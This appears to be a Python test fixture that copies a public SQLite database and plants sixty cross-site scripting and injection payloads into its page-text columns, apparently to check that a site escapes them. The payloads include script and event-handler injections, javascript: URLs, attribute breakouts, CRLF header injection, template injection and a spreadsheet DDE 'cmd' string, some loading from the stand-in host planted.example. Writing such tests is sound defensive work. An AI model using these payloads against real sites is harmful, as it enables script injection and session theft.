"""Sixty hostile strings, and a public file that carries each of them wherever a page's words can stand.

Each calls ``ran(NUMBER)``, or asks ``planted.example`` for something, where it is taken for more than text, and
carries its mark ``p07q`` so that it is found again in whatever shows it.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import sqlite3
from collections.abc import Iterable
from contextlib import closing
from pathlib import Path
from typing import Any

from db.ready import TABLES as READY_TABLES
from db.ready_tables import write_ready
from db.search_index import KINDS, write_index

_SHAPES = (
    # scripts
    "<script>ran({n})</script>",
    "<ScRiPt >ran({n})</sCrIpT >",
    '<script src="//planted.example/{n}.js"></script>',
    '<script src="data:text/javascript,ran({n})"></script>',
    "<<script>ran({n})//<</script>",
    "<script/x>ran({n})</script>",
    '<script type="module">ran({n})</script>',
    "</script><script>ran({n})</script>",
    # handlers
    "<img src=x onerror=ran({n})>",
    '<img src=x onerror="ran({n})" ',
    "<body onload=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<audio src=x onerror=ran({n})>",
    "<a href=# autofocus onfocus=ran({n})>x</a>",
    "<iframe onload=ran({n})></iframe>",
    "<style onload=ran({n})></style>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart=ran({n})>x</b>",
    '<iframe srcdoc="<script>parent.ran({n})</script>"></iframe>',
    '<object data="data:text/html,<script>parent.ran({n})</script>"></object>',
    # drawings and formulas
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:ran({n})"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=ran({n})>",
    # out of an attribute
    '" onmouseover="ran({n})" x="',
    "' autofocus onfocus='ran({n})' x='",
    '" autofocus onfocus="ran({n})" x="',
    '"><img src=x onerror=ran({n})>',
    "'><script>ran({n})</script>",
    "x onfocus=ran({n}) autofocus ",
    "` onmouseover=ran({n}) `",
    # out of an element
    "</title><script>ran({n})</script>",
    "</textarea><script>ran({n})</script>",
    "</style><script>ran({n})</script>",
    "--><script>ran({n})</script>",
    "]]><script>ran({n})</script>",
    "<!--><img src=x onerror=ran({n})>-->",
    "</select></noscript></svg><img src=x onerror=ran({n})>",
    # addresses
    "javascript:ran({n})//",
    "JaVaScRiPt:ran({n})//",
    "\x01javascript:ran({n})//",
    "java\tscript:ran({n})//",
    "data:text/html,<script>parent.ran({n})</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran({n})'/>",
    "vbscript:ran({n})//",
    "//planted.example/{n}",
    'https://planted.example/"onfocus="ran({n})"autofocus="',
    # styles and what sends a reader elsewhere
    '<style>@import "//planted.example/{n}.css"; body {{ background: url(//planted.example/{n}) }}</style>',
    '<link rel=stylesheet href="//planted.example/{n}.css"><base href="//planted.example/">',
    '<meta http-equiv=refresh content="0;url=//planted.example/{n}">',
    # templates, headers, characters, escapes undone
    "{{{{7*7}}}}{{% for x in [1] %}}<script>ran({n})</script>{{% endfor %}}",
    "x\r\nSet-Cookie: ran={n}\r\n\r\n<script>ran({n})</script>",
    "\x00<scr\x00ipt>ran({n})</scr\x00ipt>",
    "\u202e<script>ran({n})</script>\u202c",
    "&lt;script&gt;ran({n})&lt;/script&gt;&#60;img src=x onerror=ran({n})&#62;",
    # spreadsheets and Markdown
    '=HYPERLINK("javascript:ran({n})","x")',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    '[x](javascript:ran({n})) ![x](x"onerror="ran({n})) <img src=x onerror=ran({n})>',
)
PAYLOADS = tuple(f"{shape.format(n=n)} p{n:02d}q" for n, shape in enumerate(_SHAPES))
_MARK = re.compile(r"p(\d\d)q")
_ID = re.compile(r"\b[0-9a-f]{16}\b")
# Columns that hold the words of a page, of a server or of a person.
_WORDS = re.compile(
    r"((old|new|before|after|to)_)?(value|quote|text)|title|(final_|list_)?url|(found|listed)_on|error(_detail)?|why|reason"
    r"|before|after|label|words|host|summary|sentence|section|heading|target|citation|amends|issuing_body|rule|etag"
    r"|content_type"
)
# What is ours to say, whatever a page says.
_OURS = (
    "codebook",
    "jurisdictions",
    "tracked_terms",
    "releases",
    "meta",
    "accuracy",
    "calibration",
    "profile",
    "waves",
)


# What is made of the other tables, and made anew once these hold the strings.
_NOT_PLANTED = ("sqlite_", "search_", "ready_")


def marks(shown: str) -> set[int]:
    """Return the numbers of the hostile strings that stand in ``shown``."""
    return {int(number) for number in _MARK.findall(shown)}


def plant(source: Path, target: Path) -> dict[str, list[str]]:
    """Copy the public file ``source`` to ``target`` with every hostile string in it.

    The richest document is there once for each of them, with all its versions, findings, changes and positions.
    Returns the ids of these copies by table, one for each string and in their order; of changes
    the edits.
    """
    shutil.copy(source, target)
    with closing(sqlite3.connect(target)) as conn:
        names = [name for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        tables = {name: _rows(conn, name) for name in names if not name.startswith(_NOT_PLANTED)}
        [(document,)] = conn.execute(
            "SELECT c.document FROM changes c JOIN field_changes f ON f.change = c.id"
            " JOIN change_spans s ON s.change = c.id WHERE c.kind = 'edited' AND c.significance = 'substantive'"
            " GROUP BY c.document ORDER BY count(DISTINCT f.field) DESC, c.document LIMIT 1"
        )
        held = _held(tables, document)
        for name, rows in tables.items():
            if name not in (*_OURS, "publishers", "versions", "findings", "change_spans"):
                _overwrite(conn, name, rows)
        made: dict[str, list[str]] = {}
        for number, payload in enumerate(PAYLOADS):
            for name, rows in _copies(held, number, payload).items():
                _insert(conn, name, rows)
                edits = [row for row in rows if name != "changes" or row["kind"] == "edited"]
                made.setdefault(name, []).extend(str(row["id"]) for row in edits[-1:] if "id" in row)
            gone = {
                "id": f"gone{number:02d}",
                "kind": "change",
                "reason": payload,
                "at": "2026-01-01T00:00:00Z",
            }
            _insert(conn, "withdrawals", [gone])
        made["withdrawals"] = [f"gone{number:02d}" for number in range(len(PAYLOADS))]
        _borrow(conn, made)
        for name in (*(f"search_{kind}" for kind in (*KINDS, "rows")), *READY_TABLES):
            conn.execute(f"DROP TABLE {name}")
        conn.commit()
        write_index(conn)
        write_ready(conn)
        conn.execute("ANALYZE")
        conn.commit()
    return made


def _borrow(conn: sqlite3.Connection, made: dict[str, list[str]]) -> None:
    """One passage of which every copy has the words."""
    document, place = conn.execute(
        "SELECT id, jurisdiction FROM documents WHERE id = ?", made["documents"][:1]
    ).fetchone()
    whole = {"id": "a" * 16, "kind": "borrowed", "words": 20, "jurisdictions": 2, "uses": len(PAYLOADS),
             "first_jurisdiction": place, "first_document": document, "first_basis": "seen", "compared_with": document,
             "last_joined_at": "2026-05-01T05:00:00Z"}  # fmt: skip
    _insert(conn, "passages", [whole])
    versions = dict(conn.execute("SELECT document, max(id) FROM versions GROUP BY document"))
    for number, payload in enumerate(PAYLOADS):
        one = made["documents"][number]
        use = {"passage": whole["id"], "seq": number, "jurisdiction": place, "document": one,
               "version": versions[one], "start": 0, "end": 9, "words": 20, "same_share": 0.9, "stands": 1,
               "order_told": "later", "order_basis": "seen", "seen_at": "2026-05-01T05:00:00Z", "quote": payload,
               "altered": json.dumps([{"was": payload, "now": "x"}])}  # fmt: skip
        _insert(conn, "passage_uses", [use])
    made["passages"] = [whole["id"]]


def _rows(conn: sqlite3.Connection, table: str) -> list[dict[str, Any]]:
    found = conn.execute(f'SELECT * FROM "{table}"')
    names = [column[0] for column in found.description]
    return [dict(zip(names, row, strict=True)) for row in found]


def _insert(conn: sqlite3.Connection, table: str, rows: Iterable[dict[str, Any]]) -> None:
    for row in rows:
        marked = ", ".join("?" * len(row))
        named = ", ".join(f'"{name}"' for name in row)
        conn.execute(f'INSERT OR IGNORE INTO "{table}" ({named}) VALUES ({marked})', tuple(row.values()))


def _held(tables: dict[str, list[dict[str, Any]]], document: str) -> dict[str, list[dict[str, Any]]]:
    """Return the rows of every table that belong to ``document``, its publisher's row among them."""
    ids = {document}
    held: dict[str, list[dict[str, Any]]] = {}
    # Versions and changes name the document, what is read names the versions: twice round finds all.
    for _ in range(2):
        for name, rows in tables.items():
            if name in _OURS:
                continue
            held[name] = [
                row for row in rows if ids & {value for value in row.values() if isinstance(value, str)}
            ]
            ids |= {row["id"] for row in held[name] if isinstance(row.get("id"), str)}
    held["captures"] = held["captures"][-5:]
    kept = {row["id"] for row in held["captures"]}
    held["outcomes"] = [row for row in held["outcomes"] if row["capture"] in kept]
    publisher = held["documents"][0]["publisher"]
    held["publishers"] = [row for row in tables["publishers"] if row["id"] == publisher]
    return {name: rows for name, rows in held.items() if rows}


def _copies(
    held: dict[str, list[dict[str, Any]]], number: int, payload: str
) -> dict[str, list[dict[str, Any]]]:
    own = {row["id"] for rows in held.values() for row in rows if isinstance(row.get("id"), str)}

    def fresh(old: str) -> str:
        return hashlib.sha256(f"{old}-{number}".encode()).hexdigest()[:16] if old in own else old

    def renamed(value: Any) -> Any:
        return _ID.sub(lambda found: fresh(found[0]), value) if isinstance(value, str) else value

    texts = {row["id"]: row["text"] for row in held["versions"]}
    at = {version: _place(version, held) for version in texts}
    changes = {row["id"]: row for row in held["changes"]}
    made: dict[str, list[dict[str, Any]]] = {}
    for name, rows in held.items():
        made[name] = []
        for row in rows:
            copied = {column: renamed(value) for column, value in row.items()}
            for column in copied:
                if _WORDS.fullmatch(column) and isinstance(copied[column], str):
                    copied[column] = payload
            if name == "publishers":
                copied["name"] = payload
            if name == "versions":
                copied["text"] = _with(row["text"], at[row["id"]], payload)
            if name == "changes":
                copied["reasons"] = json.dumps([payload])
            _shift(row, copied, at, changes, len(payload) + 2)
            if name == "findings":
                whole = _with(texts[row["version"]], at[row["version"]], payload)
                copied["quote"] = whole[copied["quote_start"] : copied["quote_end"]]
            made[name].append(copied)
    return made


def _place(version: str, held: dict[str, list[dict[str, Any]]]) -> int:
    """Where a string goes into a version's text: within its first marked words, else within its first quote."""
    changes = {row["id"]: row for row in held["changes"]}
    for span in held.get("change_spans", []):
        for side in ("old", "new"):
            if (
                changes[span["change"]][f"{side}_version"] == version
                and span[f"{side}_end"] - span[f"{side}_start"] > 1
            ):
                return int(span[f"{side}_start"]) + 1
    return min(int(row["quote_start"]) + 1 for row in held["findings"] if row["version"] == version)


def _with(text: str, place: int, payload: str) -> str:
    return f"{text[:place]} {payload} {text[place:]}\n# {payload}\n- {payload}\n| {payload} | {payload}"


def _shift(
    row: dict[str, Any],
    copied: dict[str, Any],
    at: dict[str, int],
    versions: dict[str, dict[str, Any]],
    by: int,
) -> None:
    """Move the offsets of a row that lie behind the place where the string went in."""
    for start in [column for column in row if column.endswith("start") and isinstance(row[column], int)]:
        side = start.removesuffix("start")
        named = versions[row["change"]] if row.get("change") in versions and side in ("old_", "new_") else row
        version = named.get(f"{side}version") or named.get("version")
        for column in (start, f"{side}end"):
            if version in at and row[column] > at[version]:
                copied[column] = row[column] + by


def _overwrite(conn: sqlite3.Connection, table: str, rows: list[dict[str, Any]]) -> None:
    """Put the strings in turn into the words of rows that belong to no document."""
    keys = [row[1] for row in conn.execute(f'PRAGMA table_info("{table}")') if row[5]]
    for turn, row in enumerate(rows):
        for column in row:
            if keys and column not in keys and _WORDS.fullmatch(column) and isinstance(row[column], str):
                asked = " AND ".join(f'"{key}" IS ?' for key in keys)
                filled = (PAYLOADS[turn % len(PAYLOADS)], *(row[key] for key in keys))
                conn.execute(f'UPDATE "{table}" SET "{column}" = ? WHERE {asked}', filled)
